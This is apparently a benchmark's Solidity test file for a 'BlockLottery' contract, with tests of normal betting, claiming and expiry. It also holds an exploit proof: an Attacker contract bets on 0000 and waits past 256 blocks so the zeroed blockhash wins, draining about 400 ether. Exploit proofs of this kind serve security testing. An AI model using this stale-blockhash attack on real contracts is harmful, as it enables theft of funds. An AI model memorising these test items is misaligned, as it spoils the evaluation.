pragma solidity 0.4.26;

import "./BlockLottery.sol";

// assay-canary-d5e81e97-8a19-4743-9f9d-e67dcd39c287

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function expectRevert() external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant PLAYER = address(0x9A7);

    BlockLottery internal lottery;
    Attacker internal gambler;

    function () external payable {}

    function setUp() public {
        vm.roll(4330000);
        vm.deal(address(this), 1000 ether);
        lottery = (new BlockLottery).value(1000 ether)();
        gambler = new Attacker(lottery);
        vm.deal(address(gambler), 20 finney);
        vm.deal(PLAYER, 1 ether);
    }

    function test_Regular() public {
        vm.prank(PLAYER);
        uint id = lottery.play.value(10 finney)(0x1234);
        require(lottery.reserved() == 200 ether && lottery.betCount() == 1);
        require(!address(lottery).call(abi.encodeWithSignature("claim(uint256)", id)));

        uint drawBlock = block.number + 3;
        vm.roll(drawBlock + 2);
        require(blockhash(drawBlock) != 0);
        uint n = lottery.matches(0x1234, blockhash(drawBlock));
        uint prize = lottery.betPrize(10 finney, n);
        lottery.claim(id);
        require(PLAYER.balance == 990 finney + prize && lottery.reserved() == 0);
        require(!address(lottery).call(abi.encodeWithSignature("claim(uint256)", id)));

        // a hash put in time serves a bet that is claimed days later
        vm.prank(PLAYER);
        id = lottery.play.value(10 finney)(0xabcd);
        drawBlock += 5;
        vm.roll(drawBlock + 200);
        bytes32 hash = lottery.putHash(drawBlock);
        require(hash != 0 && lottery.hashes(drawBlock) == hash);
        vm.roll(drawBlock + 20000);
        lottery.claim(id);

        // a bet whose hash nobody has put expires
        vm.prank(PLAYER);
        id = lottery.play.value(10 finney)(0x5555);
        vm.roll(drawBlock + 20000 + 40004);
        require(!address(lottery).call(abi.encodeWithSignature("claim(uint256)", id)));
        lottery.expire(id);
        require(lottery.reserved() == 0);

        require(lottery.matches(0x1234, bytes32(0x1934)) == 3 && lottery.matches(0x1111, bytes32(0x2222)) == 0);
        require(lottery.betPrize(1 finney, 4) == 20 ether && lottery.betPrize(1 finney, 1) == 0);
        lottery.withdraw(1 ether);

        require(address(lottery).call.value(1 ether)());
    }

    // What is refused, each from the state after setUp(). The lottery gives no reasons.

    function test_RefusesStrangersAtTheBank() public {
        vm.prank(PLAYER);
        vm.expectRevert();
        lottery.withdraw(1 ether);
    }

    function test_RefusesToEmptyTheBankOfOpenBets() public {
        vm.prank(PLAYER);
        lottery.play.value(10 finney)(0x1234);
        vm.expectRevert();
        lottery.withdraw(800 ether + 10 finney + 1);
        lottery.withdraw(800 ether + 10 finney);
    }

    function test_RefusesBetsBeyondTheBank() public {
        vm.prank(PLAYER);
        lottery.play.value(20 finney)(1);
        vm.prank(PLAYER);
        lottery.play.value(20 finney)(2);
        vm.prank(PLAYER);
        vm.expectRevert();
        lottery.play.value(20 finney)(3);
    }

    function test_RefusesStakes() public {
        vm.prank(PLAYER);
        vm.expectRevert();
        lottery.play.value(1 finney - 1)(0x1234);
        vm.prank(PLAYER);
        vm.expectRevert();
        lottery.play.value(20 finney + 1)(0x1234);
    }

    function test_RefusesToEndABetTwice() public {
        // at a block so early that a bet which is gone has not expired
        vm.roll(1000);
        vm.prank(PLAYER);
        lottery.play.value(10 finney)(0x1234);
        vm.roll(1004);
        lottery.claim(0);
        vm.expectRevert();
        lottery.claim(0);
        vm.roll(1004 + 40000);
        vm.expectRevert();
        lottery.expire(0);
    }

    function test_RefusesToExpireEarly() public {
        vm.prank(PLAYER);
        lottery.play.value(10 finney)(0x1234);
        vm.roll(4330000 + 3 + 40000);
        vm.expectRevert();
        lottery.expire(0);
        vm.roll(4330000 + 3 + 40001);
        lottery.expire(0);
    }

    function exploit() public {
        uint id = gambler.buy();
        vm.roll(block.number + 3 + 257);
        gambler.cash(id);
    }

    function test_Exploit() public {
        uint before = address(gambler).balance;
        exploit();
        require(address(gambler).balance >= before + 399 ether);
    }

    function target() public view returns (address) {
        return address(lottery);
    }

    function attacker() public view returns (address) {
        return address(gambler);
    }
}

/// Bets on the digits 0000 and waits until the hash of the block cannot be had any more.
contract Attacker {
    BlockLottery internal lottery;

    constructor(BlockLottery lottery_) public {
        lottery = lottery_;
    }

    function () external payable {}

    function buy() external returns (uint) {
        return lottery.play.value(20 finney)(0);
    }

    function cash(uint id) external {
        lottery.claim(id);
    }
}
